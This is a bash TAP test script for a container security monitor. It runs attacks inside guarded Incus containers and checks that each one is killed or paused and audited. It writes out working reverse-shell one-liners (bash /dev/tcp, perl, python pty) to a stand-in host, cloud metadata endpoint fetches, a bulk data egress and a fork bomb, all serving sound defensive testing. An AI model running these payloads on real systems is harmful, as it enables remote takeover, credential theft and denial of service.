#!/bin/bash
# Real attacks inside containers, each guarded by a supervisor started the
# way the launcher starts it: reverse shells (bash /dev/tcp, perl, python
# with a pty) to a listener in a test netns, the metadata endpoint (curl and
# bash), and a fork bomb under max_processes.  The container must be down
# within 2 s of a reverse shell, and the audit log must hold the finding.
# Usage: test_monitor_attacks.sh PATH/TO/coi PATH/TO/test_monitor_spawn  (TAP)
set -u
. "$(dirname "$(realpath "$0")")/test_monitor_lib.sh"
mon_start "$@"
mon_netns || { echo "1..0 # SKIP cannot create the test network"; exit 0; }
mon_listen 4444
mon_metadata
mon_sink 9000
mon_make_tools || { echo "Bail out! cannot prepare the tools container"; exit 1; }

# attack NAME LIMIT_MS RULE COMMAND...: run COMMAND in a fresh guarded
# ephemeral container; the container must be down within LIMIT_MS and the
# audit log must hold a critical RULE finding with action "killed".
attack ()
{
  local name=$1 limit=$2 rule=$3; shift 3
  case "${MON_ONLY:-$name}" in "$name") ;; *) return ;; esac
  local c=${MON_PREFIX}${name}-$$
  mon_container "$c" || { tap_not_ok "$name: container" "cannot start $c"; return; }
  mon_spec "$MON_TMP/$c.json" "$c" true open
  local sup
  sup=$(mon_supervise "$MON_TMP/$c.json") || { tap_not_ok "$name: supervisor" "spawn failed"; return; }
  local t0 ms init stopped
  init=$(mon_init_pid "$c")
  t0=$(mon_ms)
  incus exec "$c" -- "$@" >/dev/null 2>&1 &
  local ex=$!
  # Killed: the container's init (and with it every process) is gone.
  mon_wait_dead "$init" 10000 >/dev/null
  ms=$(( $(mon_ms) - t0 ))
  mon_wait_down "$c" 10000 >/dev/null
  stopped=$(( $(mon_ms) - t0 ))
  mon_log "$name: processes killed ${ms} ms after the attack started, Incus reports it stopped at ${stopped} ms"
  if [ "$ms" -le "$limit" ]; then tap_ok "$name: container killed within $limit ms (${ms} ms)"
  else tap_not_ok "$name: container killed within $limit ms" "took ${ms} ms"; fi
  kill "$ex" 2>/dev/null; wait "$ex" 2>/dev/null
  local log
  log=$(mon_audit "$c")
  like "$name: audit has the critical $rule finding" \
    "$(echo "$log" | jq -c "select(.type==\"threat\" and .level==\"critical\" and .rule==\"$rule\") | .action" 2>/dev/null | head -1)" \
    '"killed"'
  like "$name: audit records the session end" "$(echo "$log" | jq -r 'select(.event=="stop") | .details.reason' 2>/dev/null)" killed
  # Ephemeral: the supervisor deletes the container and exits.
  local i
  for i in $(seq 1 50); do kill -0 "$sup" 2>/dev/null || break; sleep 0.1; done
  if kill -0 "$sup" 2>/dev/null; then tap_not_ok "$name: supervisor exits" "pid $sup still alive"; else tap_ok "$name: supervisor exits"; fi
  is "$name: ephemeral container deleted" "$(incus list "^$c\$" -c n --format csv)" ""
  echo "$log" | jq -c 'select(.type=="threat") | {level,rule,title,action,detected_at}' 2>/dev/null | sed 's/^/#   /'
}

attack bash 2000 reverse-shell bash -c 'bash -i >& /dev/tcp/198.51.100.144/4444 0>&1'

attack perl 2000 reverse-shell perl -e 'use Socket;$i="198.51.100.144";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'

attack python-pty 2000 reverse-shell python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.144",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'

# The same shell, started from a script file: no telling command line at all.
attack python-file 2000 reverse-shell sh -c 'printf "%s\n" "import socket,subprocess,os" "s=socket.socket()" "s.connect((\"198.51.100.144\",4444))" "[os.dup2(s.fileno(),f) for f in (0,1,2)]" "subprocess.call([\"/bin/sh\",\"-i\"])" > /tmp/job.py; exec python3 /tmp/job.py'

attack metadata-curl 2000 metadata curl -s -m 3 http://169.254.169.254/latest/meta-data/
# No network client on the command line: the connection itself (conntrack) tells.
attack metadata-script 2000 metadata sh -c 'printf "%s\n" "import urllib.request" "print(urllib.request.urlopen(\"http://169.254.169.254/latest/\").read())" > /tmp/m.py; exec python3 /tmp/m.py'
attack metadata-bash 2000 metadata bash -c 'exec 3<>/dev/tcp/169.254.169.254/80; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3'

# --- bulk egress: a high finding pauses the container ---------------------
c=${MON_PREFIX}egress-$$
if [ -n "${MON_ONLY:-}" ] && [ "$MON_ONLY" != egress ]; then
  :
elif mon_container "$c"; then
  mon_spec "$MON_TMP/$c.json" "$c" true open
  sup=$(mon_supervise "$MON_TMP/$c.json")
  # 2 GB to a host outside: over the 100 MB-per-interval egress threshold.
  incus exec "$c" -- sh -c 'head -c 2000000000 /dev/zero | python3 -c "import socket,sys; s=socket.create_connection((\"198.51.100.144\",9000)); [s.sendall(b) for b in iter(lambda: sys.stdin.buffer.read(1<<20), b\"\")]"' >/dev/null 2>&1 &
  ex=$!
  for i in $(seq 1 150); do [ "$(incus list "^$c\$" -c s --format csv)" = FROZEN ] && break; sleep 0.1; done
  is "egress: container paused" "$(incus list "^$c\$" -c s --format csv)" FROZEN
  like "egress: audit has the high egress finding" \
    "$(mon_audit "$c" | jq -c 'select(.type=="threat" and .rule=="egress") | [.level,.action]' | head -1)" '["high","paused"]'
  mon_audit "$c" | jq -c 'select(.type=="threat") | {level,rule,evidence,action}' | sed 's/^/#   /'
  # The exec client would forward a TERM to the frozen process and wait.
  kill -9 "$ex" 2>/dev/null; wait "$ex" 2>/dev/null
  incus delete -f "$c" >/dev/null 2>&1
else
  tap_not_ok "egress: container" "cannot start $c"
fi

# --- fork bomb under max_processes -------------------------------------------
c=${MON_PREFIX}bomb-$$
if [ -n "${MON_ONLY:-}" ] && [ "$MON_ONLY" != fork-bomb ]; then
  :
elif mon_container "$c" -c limits.processes=100; then
  mon_spec "$MON_TMP/$c.json" "$c" true open
  sup=$(mon_supervise "$MON_TMP/$c.json")
  t0=$(mon_ms)
  incus exec "$c" -- bash -c ':(){ :|:& };:' >/dev/null 2>&1 &
  ex=$!
  # The host stays responsive: the slowest of a few small host commands.
  worst=0
  for i in $(seq 1 10); do
    s=$(mon_ms); ls / >/dev/null; cat /proc/loadavg >/dev/null; e=$(( $(mon_ms) - s ))
    [ "$e" -gt "$worst" ] && worst=$e
    sleep 0.2
  done
  ms=$(mon_wait_down "$c" 15000); rc=$?
  ms=$(( $(mon_ms) - t0 ))
  mon_log "fork bomb: container stopped ${ms} ms after start; slowest host command ${worst} ms"
  is "fork bomb: container stopped" "$rc" 0
  if [ "$worst" -lt 500 ]; then tap_ok "fork bomb: host responsive (slowest command ${worst} ms)"
  else tap_not_ok "fork bomb: host responsive" "a host command took ${worst} ms"; fi
  like "fork bomb: audit has the critical fork-bomb finding" \
    "$(mon_audit "$c" | jq -c 'select(.type=="threat" and .rule=="fork-bomb") | [.level,.action]' | head -1)" '["critical","killed"]'
  mon_audit "$c" | jq -c 'select(.type=="threat") | {level,rule,evidence,action}' | sed 's/^/#   /'
  kill "$ex" 2>/dev/null; wait "$ex" 2>/dev/null
else
  tap_not_ok "fork bomb: container" "cannot start $c"
fi

finish
